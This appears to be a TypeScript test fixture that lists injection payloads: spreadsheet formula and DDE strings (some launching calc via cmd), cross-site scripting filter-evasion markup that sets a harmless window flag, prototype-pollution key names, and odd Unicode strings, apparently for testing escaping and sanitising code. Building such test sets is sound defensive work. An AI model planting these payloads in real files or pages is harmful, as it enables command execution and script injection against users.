/**
 * Texts that do harm where text is taken for code. Sources: OWASP, "CSV Injection" and "XSS Filter Evasion Cheat Sheet" (the
 * forms there, each with a harmless deed), MITRE CWE-1236 and CWE-1321.
 */

/** Formulas to a program that reads them as if somebody had typed them. */
export const FORMULA_TEXTS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("https://example.invalid/?"&A1,"ここ")',
  '=IMPORTXML("https://example.invalid/","//a")',
  '=IMAGE("https://example.invalid/x.png")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=KPI_VISITS("2024-06")',
  '+1+1',
  '+HYPERLINK("https://example.invalid/")',
  '-2+3',
  '-SUM(A1:A9)',
  '@SUM(1+1)',
  '＝1+2',
  '＋1+2',
  '－1+2',
  '＠SUM(1+2)',
  '\t=1+3',
  '\r=1+4',
  '\n=1+5',
  '\u0000=1+6',
  '\u0007=1+7',
  '\u001b=1+8',
  '\u200b=1+9',
  '\ufeff=1+10',
  "'=1+11",
  '"=1+12',
  '",=1+13,"',
  '";=1+14;"',
  '")&IMPORTDATA("https://example.invalid/")&("',
  '%0A=1+15',
  '|=1+16',
  '{=1+17}',
];

/** What sets `hacked` on the window that runs it, if it is run. */
export const HTML_TEXTS: readonly string[] = [
  '<script>top.hacked=window.hacked=1</script>',
  '</script><script>window.hacked=2</script>',
  '</textarea><script>window.hacked=3</script>',
  '</title></style><img src=x onerror="window.hacked=4">',
  '"><svg onload="window.hacked=5">',
  "'><iframe srcdoc='<script>parent.hacked=6</script>'></iframe>",
  '<a href="javascript:window.hacked=7">x</a>',
  '" autofocus onfocus="window.hacked=8" x="',
  '<details open ontoggle="window.hacked=9">',
  '<base href="https://example.invalid/"><link rel=stylesheet href=//example.invalid/x.css>',
  '<meta http-equiv=refresh content="0;url=https://example.invalid/">',
  '<style>@import "https://example.invalid/x.css"</style>',
  '<!--<img src="--><img src=x onerror=window.hacked=10//">',
  '&lt;img src=x onerror=window.hacked=11&gt;',
  '<?= window.hacked ?><?!= "<script>window.hacked=12</script>" ?>',
  '{{constructor.constructor("window.hacked=13")()}}${window.hacked=14}',
];

/** Names that every object of the language has, or may get. */
export const PROTOTYPE_NAMES: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'isPrototypeOf',
  '__defineGetter__',
  'then',
  'length',
];

/** Texts that are hard to keep as they are. */
export const ODD_TEXTS: readonly string[] = [
  '😀商店',
  '\ud83d孤立',
  '\udc00',
  'か\u3099き屋',
  'a\u202eb商店',
  '{name}{0}$&$1',
];

export const PAYLOADS: readonly string[] = [...FORMULA_TEXTS, ...HTML_TEXTS, ...PROTOTYPE_NAMES, ...ODD_TEXTS];
